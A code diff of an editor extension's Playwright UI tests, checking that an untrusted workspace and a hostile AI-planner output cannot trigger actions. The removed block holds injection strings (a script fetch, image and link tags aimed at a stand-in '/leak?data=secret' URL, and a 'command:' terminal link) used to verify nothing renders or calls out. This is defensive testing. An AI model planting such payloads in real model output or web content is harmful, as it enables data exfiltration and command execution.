@@ -2,24 +2,19 @@ import { createHash } from 'node:crypto';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { FrameLocator } from 'playwright-core';
-import { openHost } from '../../src/adapters/openHost';
-import type { Planner } from '../../src/core/plan/planner';
-import { planSpec } from '../../src/core/plan/planSpec';
-import { savePlan } from '../../src/core/plan/planStore';
 import { copyExample } from '../harness/copyExample';
 import { projectRoot } from '../harness/projectRoot';
 import { tempFolder } from '../harness/tempFolder';
 import { hostileCase } from '../support/hostile/hostileCase';
 import { requireCases } from '../support/hostile/requireCases';
-import { startStandIn } from '../support/standIn/startStandIn';
 import { addFile } from './addFile';
 import { pickFromPalette } from './quickPick';
+import { hostilePlan } from './stories/hostilePlan';
 import { hostileTexts } from './stories/hostileTexts';
 import { useWorkbench } from './useWorkbench';
 import { WatchedWindow } from './watchedWindow';
 
 const spec = '.openspec/spec.md';
-const history = '.openspec/apply.md';
 
 // Here, since each file of this stage runs in a process of its own.
 requireCases('ui');
@@ -59,18 +54,21 @@ describe('a window on a hostile folder', () => {
 			await page.keyboard.press('ControlOrMeta+k');
 			await page.keyboard.press('ControlOrMeta+Shift+p');
 			await page.locator('.editor-instance .view-line', { hasText: 'MUST' }).first().hover();
-			const { commands, ...watched } = await window.runAllCommands();
+			const { commands, told, trusted, ...watched } = await window.runAllCommands();
 			const explains = await plan.getByText('Planning and applying are off until you trust this workspace').count();
+			const timeline = await webviewOf(window, 'Apply history');
+			await timeline.locator('.cycle-head').first().waitFor();
 			return {
 				seen: {
 					...watched,
-					someCommands: commands > 20,
+					someCommands: commands > 20 && trusted.length > 15,
+					silent: trusted.filter(title => !told.some(message => message.startsWith(`“${title}” is off until`))),
 					changed: changedSince(folder, before),
 					explains: explains > 0,
 				},
 				promised: {
 					...{ started: [], connected: [], written: [], isActive: true, isTrusted: false },
-					...{ someCommands: true, changed: [], explains: true },
+					...{ someCommands: true, silent: [], changed: [], explains: true },
 				},
 			};
 		},
@@ -126,99 +124,8 @@ describe('a window on hostile texts', () => {
 });
 
 describe('a hostile plan in the window', () => {
-	const workbench = useWorkbench();
-
-	hostileCase(
-		'model-16',
-		'shows markup of a model and of a history as text, and asks nobody for a picture',
-		async () => {
-			const server = await startStandIn(() => ({ kind: 'answer', status: 200, body: '' }));
-			const leak = `${server.origin}/leak?data=secret`;
-			const texts = [
-				`![picture](${leak}) [link](${leak}) <img src="${leak}">`,
-				`<script>fetch("${leak}")</script> [run](command:workbench.action.terminal.new) <${leak}>`,
-			].join(' ');
-			const { folder } = workbench();
-			workbench().changeOnDisk(
-				history,
-				text => `${text}\n## Cycle 9 — 2026-06-09\n\n### Propose\n\n${texts}\n\n### Status\n\n✅ APPLIED\n`,
-			);
-			workbench().changeOnDisk(spec, text => text.replace('Hello', 'Welcome'));
-			await savePlan(openHost(folder), await hostilePlan(folder, texts));
-			await workbench().openFile(spec);
-			await workbench().openViewContainer('Spec-Driven Ops');
-			const plan = await workbench().webview('Plan');
-			await plan.getByText('![picture]').first().waitFor();
-			const inPlan = await plan.locator('img, a[href^="command:"], iframe').count();
-			await workbench().runCommand('Spec: Show Apply History');
-			const timeline = await workbench()
-				.webview('Apply history', 60_000)
-				.catch(() => undefined);
-			const inTimeline = timeline ? await timeline.locator('img, a[href^="command:"], iframe').count() : 0;
-			await new Promise(resolve => setTimeout(resolve, 1000));
-			await server.close();
-			return {
-				seen: { inPlan, inTimeline, requests: server.requests.length },
-				promised: { inPlan: 0, inTimeline: 0, requests: 0 },
-			};
-		},
-		{ timeoutMs: 120_000 },
-	);
-
-	hostileCase(
-		'trust-11',
-		'is applied neither by a double click nor by keys that were meant for another place',
-		async () => {
-			const { page } = workbench();
-			const plan = await workbench().webview('Plan');
-			const apply = plan.getByRole('button', { name: /^Apply \d/ }).first();
-			await apply.waitFor();
-			await apply.dblclick();
-			const dialog = page.locator('.monaco-dialog-box');
-			await dialog.waitFor();
-			const dialogs = await dialog.count();
-			await page.keyboard.type('typed text');
-			await page.keyboard.press('Escape');
-			await dialog.waitFor({ state: 'detached' });
-			return {
-				seen: {
-					dialogs,
-					cycles: workbench().readFile(history).includes('NOTES.md'),
-					file: workbench().hasFile('NOTES.md'),
-				},
-				promised: { dialogs: 1, cycles: false, file: false },
-			};
-		},
-		{ timeoutMs: 60_000 },
-	);
+	hostilePlan(useWorkbench());
 });
-
-/** A plan of one new file whose words are hostile. */
-async function hostilePlan(folder: string, words: string) {
-	const planner: Planner = {
-		id: 'anthropic',
-		propose: async ({ changes }) => {
-			const requirements = changes.map(({ id }) => id);
-			return {
-				kind: 'proposed',
-				planner: { id: 'anthropic', model: words },
-				edits: [{ op: 'create', path: 'NOTES.md', text: 'Welcome\n', reason: words, selected: true, requirements }],
-				states: new Map(requirements.map(id => [id, 'edits'])),
-				verify: [],
-				unresolved: [],
-				assumptions: [{ decision: words, alternatives: [words], suggestion: words, section: words, accepted: false }],
-				summary: words,
-				notes: [words],
-			};
-		},
-	};
-	const token = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose: () => {} }) };
-	const outcome = await planSpec(openHost(folder), spec, { planner }, token);
-	if (outcome.kind !== 'planned') {
-		throw new Error(JSON.stringify(outcome));
-	}
-	return outcome.plan;
-}
 
 async function setTrust({ page }: WatchedWindow, plan: FrameLocator): Promise<void> {
 	await plan.getByRole('button', { name: 'Manage Workspace Trust', exact: true }).click();
